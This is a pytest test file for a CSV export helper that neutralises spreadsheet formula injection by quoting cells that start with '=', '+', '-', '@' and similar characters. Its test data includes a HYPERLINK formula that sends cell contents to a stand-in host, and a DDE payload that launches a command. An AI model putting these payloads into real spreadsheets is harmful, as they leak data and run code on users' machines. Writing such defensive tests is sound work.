import csv
import io

import pytest

from lit_plugins.data.spreadsheet import as_csv, inert

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_is_a_text(text):
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "-.5", "-2.", -0.5, 0, None, True])
def test_numbers_stay_numbers(number):
    assert inert(number) is number


@pytest.mark.parametrize("text", ["", "a = b", " =1", "'=1", "1-2"])
def test_other_texts_stay(text):
    assert inert(text) == text


def test_names_and_cells_of_csv_are_inert():
    names = ["=evil()", "n", "none", "text"]
    rows = [{"=evil()": text, "n": -0.5, "none": None} for text in FORMULAS]
    header, *lines = csv.reader(io.StringIO(as_csv(names, rows).decode(), newline=""))
    assert header == ["'=evil()", "n", "none", "text"]
    assert lines == [[f"'{text}", "-0.5", "", ""] for text in FORMULAS]


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_no_text_begins_a_row(end):
    text = f'a "b",{end}=evil()'
    written = as_csv(["text"], [{"text": text}], header=False).decode()
    assert list(csv.reader(io.StringIO(written, newline=""))) == [[text]]


def test_rows_may_go_below_others():
    assert as_csv(["a"], [{"a": "ä,"}], header=False) == '"ä,"\n'.encode()
